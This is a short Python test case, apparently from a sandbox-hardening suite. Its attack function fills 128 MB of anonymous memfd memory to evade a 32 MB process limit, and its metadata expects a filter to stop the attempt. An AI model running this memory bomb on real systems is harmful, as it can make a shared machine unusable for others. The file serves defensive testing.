"""Fill memory that no limit of the process counts (128 MB here)."""

from __future__ import annotations

import os
from typing import Any

EVIDENCE = "memory_file"
STOPPED_BY = "filter"
MEANS = "it makes the machine unusable"
NEEDS = ("free_memory",)
LIMITS = {"memory_mb": 32}


def attack(at: Any) -> None:
    handle = os.memfd_create("bomb")
    for _ in range(128):
        os.write(handle, bytes(1 << 20))
    at.hold()
